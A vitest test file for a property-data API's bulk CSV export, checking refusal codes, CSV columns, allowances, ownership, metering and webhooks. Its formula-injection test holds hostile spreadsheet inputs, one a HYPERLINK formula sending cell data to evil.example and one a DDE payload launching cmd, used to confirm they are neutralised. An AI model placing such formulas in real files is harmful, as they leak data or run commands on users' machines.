/**
 * Bulk export (spec 4.7): the six routes, every refusal code, the CSV's shape (identity columns,
 * status text in the cells of a layer that is not ok, omitted layers absent), the manifest's
 * credits, the allowance, ownership, metering and the webhook events. The job runs in this
 * process on a worker holding only the export kind, through the embedded graph.
 */
import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import request from 'supertest';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Database } from '../core/db.ts';
import { ALL_SCOPES } from '../core/scopes.ts';
import type { CreateKeyInput } from '../platform/keys.ts';
import { BATCH_LAYERS, IDENTITY_COLUMNS, ROW_STATUSES, batchLayer } from '../platform/batch/layers.ts';
import { exportJobHandler } from '../platform/exports/job.ts';
import { getJob } from '../platform/jobs/engine.ts';
import { JobRegistry, JobWorker } from '../platform/jobs/worker.ts';
import { monthOf } from '../platform/usage.ts';
import { createTestKey, testRuntime } from './support/runtime.ts';
import type { TestRuntime } from './support/runtime.ts';

let t: TestRuntime;
let db: Database;
let worker: JobWorker;

type Keyed = { secret: string; id: string; account: string };

/** A key of its own account (so allowance and ownership are the test's own), with bulk_export unless told. */
async function exportKey(overrides: Partial<CreateKeyInput> = {}): Promise<Keyed> {
  const account = overrides.account ?? `acct-${randomUUID().slice(0, 8)}`;
  const { key, secret } = await t.runtime.keys.create({
    name: 'export-test',
    kind: 'test',
    scopes: [...ALL_SCOPES],
    capabilities: ['bulk_export'],
    rateLimitPerMinute: 100_000,
    account,
    ...overrides,
  });
  return { secret, id: key.id, account };
}

const submit = (key: Keyed | string, body: unknown) =>
  request(t.app)
    .post('/v1/exports')
    .set('Authorization', `Bearer ${typeof key === 'string' ? key : key.secret}`)
    .send(body as object);
const get = (key: Keyed, path: string) => request(t.app).get(path).set('Authorization', `Bearer ${key.secret}`);

/** Runs queued export jobs until none is left. */
async function drain(): Promise<void> {
  while (await worker.runOnce());
}

async function csvOf(key: Keyed, jobId: string): Promise<{ header: string[]; rows: Record<string, string>[] }> {
  const res = await get(key, `/v1/exports/${jobId}/result`)
    .buffer(true)
    .parse((r, done) => {
      let text = '';
      r.setEncoding('utf8');
      r.on('data', (chunk: string) => (text += chunk));
      r.on('end', () => done(null, text));
    });
  expect(res.status).toBe(200);
  expect(res.headers['content-type']).toMatch(/^text\/csv/);
  const text = res.body as string;
  const firstRecord: string[][] = parse(text, { to: 1 });
  const header = firstRecord[0]!;
  return { header, rows: parse<Record<string, string>>(text, { columns: true }) };
}

let suburbCount = 0;

beforeAll(async () => {
  t = await testRuntime();
  db = t.runtime.db;
  worker = new JobWorker(db, new JobRegistry().register(exportJobHandler), t.config, {
    sweepEveryMs: null,
    graph: t.runtime.graph,
  });
  const [row] = await db.query<{ n: number }>(
    `SELECT count(*)::int AS n FROM address.address_detail a JOIN address.locality l
       ON l.dataset = a.dataset AND l.locality_pid = a.locality_pid
     WHERE a.dataset = 'sandbox' AND l.locality_name = 'NORTH LAKES' AND a.state = 'QLD' AND a.geom IS NOT NULL`,
  );
  suburbCount = row!.n;
});

describe('GET /v1/exports/layers', () => {
  it('lists every layer with its columns and scopes, readable by the key or not', async () => {
    const key = await exportKey({ scopes: ['soil.read'] });
    const res = await get(key, '/v1/exports/layers');
    expect(res.status).toBe(200);
    expect(res.body.identityColumns).toEqual([...IDENTITY_COLUMNS]);
    expect(res.body.statuses).toEqual([...ROW_STATUSES]);
    const listed = res.body.layers as { name: string; readable: boolean }[];
    const soil = listed.find((l) => l.name === 'soil');
    expect(soil).toMatchObject({
      scopes: ['soil.read'],
      readable: true,
      columns: ['soil_status', ...batchLayer('soil')!.columns],
    });
    expect(listed.filter((l) => l.readable).map((l) => l.name)).toEqual(['soil']);
    expect(listed.map((l) => l.name)).toEqual(BATCH_LAYERS.map((l) => l.name));
    expect(res.body.notExportable).toEqual(
      expect.arrayContaining(['sales history', 'comparable sales', 'automated valuation', 'Livability Rating']),
    );
  });
});

describe('POST /v1/exports refusals', () => {
  it('402 bulk_export_required for a key without the capability', async () => {
    const key = await exportKey({ capabilities: [] });
    const res = await submit(key, { selection: { type: 'suburb', name: 'Huntly', state: 'VIC' } });
    expect(res.status).toBe(402);
    expect(res.body).toMatchObject({ success: false, code: 'bulk_export_required' });
    expect(res.body.error).toMatch(/bulk_export/);
  });

  it('402 bulk_export_required before the body is read: malformed bodies get it too, the same for any body', async () => {
    const key = await exportKey({ capabilities: [] });
    const malformed: unknown[] = [{}, { selection: { type: 'planet' } }, { selection: 'Huntly' }, { layers: 7 }];
    const answers = [];
    for (const body of malformed) answers.push(await submit(key, body));
    answers.push(
      await request(t.app)
        .post('/v1/exports')
        .set('Authorization', `Bearer ${key.secret}`)
        .set('Content-Type', 'text/plain')
        .send('selection=suburb'),
    );
    for (const res of answers) {
      expect(res.status, res.text).toBe(402);
      expect(res.body).toMatchObject({ success: false, code: 'bulk_export_required' });
    }
    // one answer whatever the body: nothing of it shows through
    expect(new Set(answers.map((res) => JSON.stringify(res.body))).size).toBe(1);
  });

  it('400 for the same malformed bodies from a key that holds bulk_export', async () => {
    const key = await exportKey();
    for (const body of [{}, { selection: { type: 'planet' } }, { selection: 'Huntly' }, { layers: 7 }]) {
      const res = await submit(key, body);
      expect(res.status, res.text).toBe(400);
      expect(res.body.success).toBe(false);
      expect(res.body.code).toBeUndefined();
    }
    const text = await request(t.app)
      .post('/v1/exports')
      .set('Authorization', `Bearer ${key.secret}`)
      .set('Content-Type', 'text/plain')
      .send('selection=suburb');
    expect(text.status).toBe(400);
    expect(text.body.error).toMatch(/as JSON/);
  });

  it('400 naming the non-exportable products asked for as layers', async () => {
    const key = await exportKey();
    const res = await submit(key, {
      selection: { type: 'suburb', name: 'Huntly', state: 'VIC' },
      layers: ['planning', 'sales_history', 'livability_rating', 'automated_valuation'],
    });
    expect(res.status).toBe(400);
    expect(res.body.error).toMatch(/Not exportable: sales_history, livability_rating, automated_valuation/);
    expect(res.body.error).toMatch(/sales history, Livability Rating, automated valuation/);
    const unknown = await submit(key, {
      selection: { type: 'suburb', name: 'Huntly', state: 'VIC' },
      layers: ['zoning'],
    });
    expect(unknown.status).toBe(400);
    expect(unknown.body.error).toBe('Unknown layer: zoning.');
  });

  it('403 insufficient_scope when the key reads none of the requested layers (the add-on grants no scope)', async () => {
    const key = await exportKey({ scopes: ['soil.read'] });
    const res = await submit(key, {
      selection: { type: 'suburb', name: 'Huntly', state: 'VIC' },
      layers: ['planning', 'hazards'],
    });
    expect(res.status).toBe(403);
    expect(res.body).toMatchObject({ code: 'insufficient_scope', layersOmittedForScope: ['planning', 'hazards'] });
    expect(res.body.error).toMatch(/planning needs planning.read; hazards needs risk.read/);
    const none = await exportKey({ scopes: ['address.read'] });
    const byDefault = await submit(none, { selection: { type: 'suburb', name: 'Huntly', state: 'VIC' } });
    expect(byDefault.status).toBe(403);
    expect(byDefault.body.code).toBe('insufficient_scope');
  });

  it('413 for a list over 5,000 addresses, refused whole and nothing queued', async () => {
    const key = await exportKey();
    const addresses = Array.from({ length: 5_001 }, (_, i) => `${i + 1} Main St Huntly VIC 3551`);
    const res = await submit(key, { selection: { type: 'addresses', addresses } });
    expect(res.status).toBe(413);
    expect(res.body).toMatchObject({ code: 'selection_too_large', requested: 5_001, limit: 5_000 });
    const [queued] = await db.query<{ n: number }>(`SELECT count(*)::int n FROM platform.export WHERE key_id = $1`, [
      key.id,
    ]);
    expect(queued!.n).toBe(0);
  });

  it('413 for an area over 25,000 properties, counted before anything is listed or queued', async () => {
    // the sandbox holds fewer addresses: 25,001 of the live dataset, out in the Tasman Sea, read by a live key
    const prefix = `GALIVEBULK${randomUUID().slice(0, 6)}`;
    await db.query(
      `INSERT INTO address.address_detail (dataset, gnaf_pid, street_locality_pid, locality_pid, state, formatted_address, geocode_type, geom)
       SELECT 'live', $1 || g, 'SL', 'LOC', 'NSW', g || ' SEA ST', 'PC', ST_SetSRID(ST_MakePoint(160 + (g % 200) * 0.0001, -40 - (g / 200) * 0.0001), 4326)
       FROM generate_series(1, 25001) g`,
      [prefix],
    );
    try {
      const key = await exportKey({ kind: 'live' });
      const ring = [
        [159.99, -40.1],
        [160.1, -40.1],
        [160.1, -39.99],
        [159.99, -39.99],
        [159.99, -40.1],
      ];
      const res = await submit(key, { selection: { type: 'area', polygon: { type: 'Polygon', coordinates: [ring] } } });
      expect(res.status).toBe(413);
      expect(res.body).toMatchObject({ code: 'selection_too_large', requested: 25_001, limit: 25_000 });
      const [queued] = await db.query<{ n: number }>(`SELECT count(*)::int n FROM platform.export WHERE key_id = $1`, [
        key.id,
      ]);
      expect(queued!.n).toBe(0);
    } finally {
      await db.query(`DELETE FROM address.address_detail WHERE dataset = 'live' AND gnaf_pid LIKE $1 || '%'`, [prefix]);
    }
  });

  it('answers a selection the graph refuses as 400, and an empty one as 404', async () => {
    const key = await exportKey();
    const lga = await submit(key, { selection: { type: 'lga', name: 'Greater Bendigo', state: 'VIC' } });
    expect(lga.status).toBe(400);
    expect(lga.body.error).toMatch(/QLD only/);
    const nowhere = await submit(key, { selection: { type: 'suburb', name: 'Nowhere Such', state: 'VIC' } });
    expect(nowhere.status).toBe(404);
    const bad = await submit(key, { selection: { type: 'area', polygon: { type: 'Point', coordinates: [1, 2] } } });
    expect(bad.status).toBe(400);
  });

  it('402 bulk_export_allowance_exhausted with allowance, used and remaining once the month is spent', async () => {
    const key = await exportKey({ exportRowsMonthly: 5 });
    const three = await submit(key, {
      selection: { type: 'addresses', addresses: ['1 A St Huntly VIC', '2 A St Huntly VIC', '3 A St Huntly VIC'] },
      layers: ['soil'],
    });
    expect(three.status).toBe(202);
    const over = await submit(key, {
      selection: { type: 'addresses', addresses: ['1 A St Huntly VIC', '2 A St Huntly VIC', '3 A St Huntly VIC'] },
    });
    expect(over.status).toBe(402);
    expect(over.body).toMatchObject({
      code: 'bulk_export_allowance_exhausted',
      allowance: 5,
      used: 3,
      remaining: 2,
      requestedRows: 3,
    });
    const usage = await get(key, '/v1/exports/usage');
    expect(usage.body).toMatchObject({
      allowance: 5,
      allowance_source: 'key',
      used: 3,
      remaining: 2,
      bulk_export: true,
    });
    const two = await submit(key, {
      selection: { type: 'addresses', addresses: ['1 A St', '2 A St'] },
      layers: ['soil'],
    });
    expect(two.status).toBe(202);
    const spent = await submit(key, { selection: { type: 'addresses', addresses: ['1 A St'] } });
    expect(spent.body).toMatchObject({ code: 'bulk_export_allowance_exhausted', used: 5, remaining: 0 });
    await drain();
  });
});

describe('an export from submit to CSV', () => {
  it('exports a suburb: one row per address, identity columns, statuses, the omitted layer absent', async () => {
    const key = await exportKey({ scopes: ['cadastre.read', 'planning.read', 'soil.read', 'easement.read'] });
    const layers = ['parcel', 'planning', 'hazards', 'soil', 'easements'];
    const res = await submit(key, { selection: { type: 'suburb', name: 'north lakes', state: 'QLD' }, layers });
    expect(res.status).toBe(202);
    expect(res.body).toMatchObject({
      requestedRows: suburbCount,
      layers: ['parcel', 'planning', 'soil', 'easements'],
      layersOmittedForScope: ['hazards'],
    });
    const id = res.body.jobId as string;
    const submittedHeader = res.body.header as string[];
    expect(submittedHeader.slice(0, 7)).toEqual([...IDENTITY_COLUMNS]);
    expect(submittedHeader.some((c) => c.startsWith('hazards'))).toBe(false);

    const early = await get(key, `/v1/exports/${id}/result`);
    expect(early.status).toBe(409);
    expect(early.body).toMatchObject({ code: 'export_not_ready', state: 'queued' });

    await drain();
    const status = await get(key, `/v1/exports/${id}`);
    expect(status.body).toMatchObject({ state: 'succeeded', rowsProcessed: suburbCount, requestedRows: suburbCount });

    const { header, rows } = await csvOf(key, id);
    expect(header).toEqual(res.body.header);
    expect(rows).toHaveLength(suburbCount);
    expect(new Set(rows.map((r) => r.gnaf_pid)).size).toBe(suburbCount);
    for (const row of rows) {
      expect(row.state).toBe('QLD');
      expect(row.locality).toBe('NORTH LAKES');
      expect(Number(row.latitude)).toBeLessThan(-20);
      for (const name of ['parcel', 'planning', 'soil', 'easements']) {
        const status = row[`${name}_status`]!;
        expect(ROW_STATUSES).toContain(status);
        // a layer that is not ok carries its status in every data cell, never a blank
        if (status !== 'ok') for (const column of batchLayer(name)!.columns) expect(row[column]).toBe(status);
      }
    }
    expect(rows.filter((r) => r.parcel_status === 'ok').length).toBeGreaterThan(0);
    expect(rows.filter((r) => r.parcel_status === 'ok').every((r) => r.parcel_pfi && r.parcel_pfi !== 'ok')).toBe(true);
    // the sandbox has parcels without easements: checked and clear
    expect(rows.some((r) => r.easements_status === 'no_feature' && r.easements_count === 'no_feature')).toBe(true);

    const manifest = await get(key, `/v1/exports/${id}/manifest`);
    expect(manifest.status).toBe(200);
    expect(manifest.body.complete).toBe(true);
    expect((manifest.body.layers as { layer: string }[]).map((l) => l.layer)).toEqual([
      'parcel',
      'planning',
      'soil',
      'easements',
    ]);
    const parcel = manifest.body.layers[0];
    expect(parcel.credits[0]).toMatchObject({ attribution: expect.any(String), license: expect.any(String) });
    expect(parcel.credits[0].freshness.oldest).toMatch(/^\d{4}-\d{2}-\d{2}$/);
    expect(manifest.body.identity.credits.length).toBeGreaterThan(0);
    expect(manifest.headers['x-service-attribution']).toBeTruthy();
    expect(manifest.body.attribution).toContain(parcel.credits[0].attribution);
    const [targets] = await db.query<{ n: number }>(
      `SELECT count(*)::int n FROM platform.export_target WHERE job_id = $1`,
      [id],
    );
    expect(targets!.n).toBe(0);
  });

  it('keeps an address list in order with its input text; an unmatched address is no_identifier in every layer', async () => {
    const key = await exportKey();
    const [known] = await db.query<{ formatted_address: string; gnaf_pid: string }>(
      `SELECT formatted_address, gnaf_pid FROM address.address_detail WHERE dataset = 'sandbox' AND state = 'VIC'
         AND parcel_pfi IS NOT NULL AND flat_number IS NULL ORDER BY gnaf_pid LIMIT 1`,
    );
    const addresses = ['99999 Nowhere Road Imaginary VIC 3999', known!.formatted_address];
    const res = await submit(key, { selection: { type: 'addresses', addresses }, layers: ['parcel', 'planning'] });
    expect(res.status).toBe(202);
    expect(res.body.header[0]).toBe('input_address');
    await drain();
    const { rows } = await csvOf(key, res.body.jobId as string);
    expect(rows.map((r) => r.input_address)).toEqual(addresses);
    expect(rows[0]).toMatchObject({
      gnaf_pid: '',
      parcel_status: 'no_identifier',
      parcel_pfi: 'no_identifier',
      planning_status: 'no_identifier',
      planning_zone_code: 'no_identifier',
    });
    expect(rows[1]).toMatchObject({ gnaf_pid: known!.gnaf_pid, parcel_status: 'ok', state: 'VIC' });
  });
});

describe('formula injection', () => {
  it("neutralises an address list's hostile input text in the CSV; coordinates stay numeric", async () => {
    const key = await exportKey();
    const [known] = await db.query<{ formatted_address: string; gnaf_pid: string }>(
      `SELECT formatted_address, gnaf_pid FROM address.address_detail WHERE dataset = 'sandbox' AND state = 'VIC'
         AND geom IS NOT NULL AND flat_number IS NULL ORDER BY gnaf_pid LIMIT 1`,
    );
    const hostile = ['=HYPERLINK("http://evil.example/?d="&B2,"Open")', "@SUM(1+1)*cmd|' /C calc'!A0", '+1+1 Main St'];
    const addresses = [...hostile, known!.formatted_address];
    const res = await submit(key, { selection: { type: 'addresses', addresses }, layers: ['parcel'] });
    expect(res.status, res.text).toBe(202);
    await drain();
    const { header, rows } = await csvOf(key, res.body.jobId as string);
    expect(header).toEqual(res.body.header);
    expect(rows.map((r) => r.input_address)).toEqual([...hostile.map((h) => `'${h}`), known!.formatted_address]);
    expect(rows[3]).toMatchObject({ gnaf_pid: known!.gnaf_pid, parcel_status: 'ok' });
    expect(rows[3]!.latitude).toMatch(/^-\d+\.\d+$/);
    // no cell of the file starts a formula, unless it is a plain number
    for (const row of rows)
      for (const cell of Object.values(row))
        expect(/^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell), cell).toBe(false);
  });
});

describe('a cancelled export', () => {
  it("drops its targets (an address list's texts) at once, and is charged no rows", async () => {
    const key = await exportKey();
    const res = await submit(key, {
      selection: { type: 'addresses', addresses: ['1 Private Lane Secretville VIC 3999', '2 Private Lane'] },
      layers: ['parcel'],
    });
    expect(res.status, res.text).toBe(202);
    const id = res.body.jobId as string;
    const targets = async () =>
      (await db.query<{ n: number }>(`SELECT count(*)::int n FROM platform.export_target WHERE job_id = $1`, [id]))[0]!
        .n;
    expect(await targets()).toBe(2);
    const cancelled = await request(t.app).post(`/v1/jobs/${id}/cancel`).set('Authorization', `Bearer ${key.secret}`);
    expect(cancelled.status, cancelled.text).toBe(200);
    expect(cancelled.body.job.state).toBe('cancelled');
    expect(await targets()).toBe(0);
    await drain();
    expect((await getJob(db, id))!.state).toBe('cancelled');
    expect((await get(key, '/v1/exports/usage')).body).toMatchObject({ used: 0 });
  });
});

describe('ownership, metering and events', () => {
  it("answers 404 for another account's export on every route", async () => {
    const owner = await exportKey();
    const other = await exportKey();
    const res = await submit(owner, { selection: { type: 'addresses', addresses: ['1 A St'] }, layers: ['soil'] });
    const id = res.body.jobId as string;
    for (const path of [`/v1/exports/${id}`, `/v1/exports/${id}/result`, `/v1/exports/${id}/manifest`]) {
      const answer = await get(other, path);
      expect(answer.status, path).toBe(404);
      expect(answer.body.error).toBe(`No export ${id}.`);
    }
    expect((await get(owner, `/v1/exports/${id}`)).status).toBe(200);
    await drain();
  });

  it('meters the submit as one call and never the rows, nor the polling and download', async () => {
    const key = await exportKey();
    const res = await submit(key, { selection: { type: 'suburb', name: 'Huntly', state: 'VIC' }, layers: ['soil'] });
    const id = res.body.jobId as string;
    await drain();
    await get(key, `/v1/exports/${id}`);
    await csvOf(key, id);
    await get(key, `/v1/exports/${id}/manifest`);
    await get(key, '/v1/exports/usage');
    await get(key, '/v1/exports/layers');
    const lines = await t.runtime.meter.usage(key.id, monthOf(new Date()));
    expect(lines).toEqual([{ route_group: 'bulk-export', calls: 1 }]);
    expect((await get(key, '/v1/exports/usage')).body.used).toBe(res.body.requestedRows);
  });

  it('publishes export.job.completed, and export.job.failed (charging only delivered rows) when the key is revoked before it runs', async () => {
    const key = await exportKey();
    await db.query(
      `INSERT INTO platform.webhook_endpoint (id, account_id, url, events, secret_ciphertext, secret_prefix)
       VALUES ($1, $2, 'https://hooks.example.com/x', ARRAY['export.job.completed', 'export.job.failed'], 'none', 'whsec_')`,
      [`whe_${randomUUID().slice(0, 8)}`, key.account],
    );
    const done = await submit(key, { selection: { type: 'addresses', addresses: ['1 A St'] }, layers: ['soil'] });
    await drain();
    const failing = await submit(key, {
      selection: { type: 'addresses', addresses: ['1 A St', '2 A St'] },
      layers: ['soil'],
    });
    await t.runtime.keys.revoke(key.id);
    await drain();
    const failed = await getJob(db, failing.body.jobId as string);
    expect(failed?.state).toBe('failed');
    expect(failed?.error).toMatch(/revoked/);
    const events = await db.query<{ type: string; job_id: string }>(
      `SELECT input->'event'->>'type' AS type, input->'event'->'data'->>'job_id' AS job_id FROM platform.job
       WHERE kind = 'webhook.delivery' AND account_id = $1 ORDER BY seq`,
      [key.account],
    );
    expect(events).toEqual([
      { type: 'export.job.completed', job_id: done.body.jobId },
      { type: 'export.job.failed', job_id: failing.body.jobId },
    ]);
    const [charged] = await db.query<{ charged_rows: number }>(
      `SELECT charged_rows FROM platform.export WHERE job_id = $1`,
      [failing.body.jobId],
    );
    expect(charged!.charged_rows).toBe(0);
    await db.query(`UPDATE platform.job SET state = 'cancelled' WHERE kind = 'webhook.delivery' AND account_id = $1`, [
      key.account,
    ]);
  });
});

describe('the allowance setting', () => {
  it('is stored on the key (null: the configured default) and refuses a negative value', async () => {
    const own = await exportKey({ exportRowsMonthly: 1_234 });
    expect((await t.runtime.keys.show(own.id)).exportRowsMonthly).toBe(1_234);
    const fallback = await exportKey();
    expect((await t.runtime.keys.show(fallback.id)).exportRowsMonthly).toBeNull();
    expect((await get(fallback, '/v1/exports/usage')).body).toMatchObject({
      allowance: t.config.exportRowsMonthly,
      allowance_source: 'default',
      used: 0,
    });
    await expect(exportKey({ exportRowsMonthly: -1 })).rejects.toMatchObject({ status: 400 });
  });

  it('is changed after creation: the next submit is checked against it, and the change is audited', async () => {
    const key = await exportKey({ exportRowsMonthly: 1 });
    const list = (n: number) => ({
      selection: { type: 'addresses', addresses: Array.from({ length: n }, (_, i) => `${i + 1} Nowhere St`) },
      layers: ['parcel'],
    });
    expect((await submit(key, list(2))).body).toMatchObject({ code: 'bulk_export_allowance_exhausted', allowance: 1 });
    expect((await t.runtime.keys.setExportAllowance(key.id, 3)).exportRowsMonthly).toBe(3);
    expect((await submit(key, list(2))).status).toBe(202);
    expect((await get(key, '/v1/exports/usage')).body).toMatchObject({ allowance: 3, used: 2, remaining: 1 });
    // lowered below what the month has used: nothing remains, and nothing already exported is undone
    await t.runtime.keys.setExportAllowance(key.id, 0);
    expect((await get(key, '/v1/exports/usage')).body).toMatchObject({ allowance: 0, used: 2, remaining: 0 });
    expect((await t.runtime.keys.setExportAllowance(key.id, null)).exportRowsMonthly).toBeNull();
    expect((await get(key, '/v1/exports/usage')).body).toMatchObject({ allowance_source: 'default' });
    const audit = await db.query<{ detail: unknown }>(
      `SELECT detail FROM platform.audit_log WHERE key_id = $1 AND action = 'key.export_allowance_changed' ORDER BY id`,
      [key.id],
    );
    expect(audit.map((a) => a.detail)).toEqual([
      { from: 1, to: 3 },
      { from: 3, to: 0 },
      { from: 0, to: null },
    ]);
    await expect(t.runtime.keys.setExportAllowance(key.id, -1)).rejects.toMatchObject({ status: 400 });
    await expect(t.runtime.keys.setExportAllowance(key.id, 2 ** 31)).rejects.toMatchObject({ status: 400 });
    await expect(t.runtime.keys.setExportAllowance('key_missing', 5)).rejects.toMatchObject({ status: 404 });
    await t.runtime.keys.revoke(key.id);
    await expect(t.runtime.keys.setExportAllowance(key.id, 5)).rejects.toMatchObject({ status: 400 });
  });
});

describe('default layers', () => {
  it('exports every layer the key can read when layers is left out, naming the rest as omitted for scope', async () => {
    const key = await exportKey({ scopes: ['planning.read', 'locality.read'] });
    const res = await submit(key, { selection: { type: 'addresses', addresses: ['1 A St'] } });
    expect(res.status).toBe(202);
    expect(res.body.layers).toEqual(['planning', 'demographics', 'market']);
    expect(res.body.layersOmittedForScope).toEqual(
      BATCH_LAYERS.map((l) => l.name).filter((n) => !['planning', 'demographics', 'market'].includes(n)),
    );
    await drain();
  });
});

it('exports with the shared every-scope test key refused: capabilities are denied by default', async () => {
  const res = await submit(await createTestKey(t.runtime), { selection: { type: 'addresses', addresses: ['1 A St'] } });
  expect(res.status).toBe(402);
});
